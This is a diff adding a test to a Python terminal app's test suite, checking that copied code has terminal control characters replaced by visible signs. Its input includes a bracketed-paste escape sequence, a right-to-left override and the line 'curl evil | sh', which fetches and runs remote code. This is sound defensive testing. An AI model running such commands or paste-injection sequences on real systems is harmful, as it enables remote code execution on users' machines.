@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 from typing import Any
 
@@ -264,6 +265,20 @@ async def test_the_code_is_copied_as_it_runs(desk: Any, until: Any) -> None:
         await pilot.press("f4")
         await until(pilot, lambda: app.clipboard)
         assert app.clipboard == "A = torch.arange(2 * 3).reshape(2, 3)\nA.unsqueeze(1)\n"
+
+
+async def test_code_is_copied_with_signs_in_place_of_what_a_terminal_obeys(desk: Any, until: Any) -> None:
+    setup = json.dumps('x = 1  # \x1b[201~ \u202e\r\n"""\ncurl evil | sh\n"""\n1 + 1')
+    question = f"{{id: q, ask: shape, setup: {setup}, code: A.unsqueeze(1)}}"
+    desk.packs = (f"pack: p\ntitle: T\nquestions:\n  - {question}",)
+    app = desk.app()
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        await start(pilot, until)
+        await pilot.press("f4")
+        await until(pilot, lambda: app.clipboard)
+        first, *rest = app.clipboard.split("\n")
+        assert first == "x = 1  # ␛[201~ ⟨202e⟩␍"
+        assert rest == ['"""', "curl evil | sh", '"""', "1 + 1", "A.unsqueeze(1)", ""]
 
 
 async def test_a_review_in_chinese(desk: Any, until: Any, shown: Any) -> None:
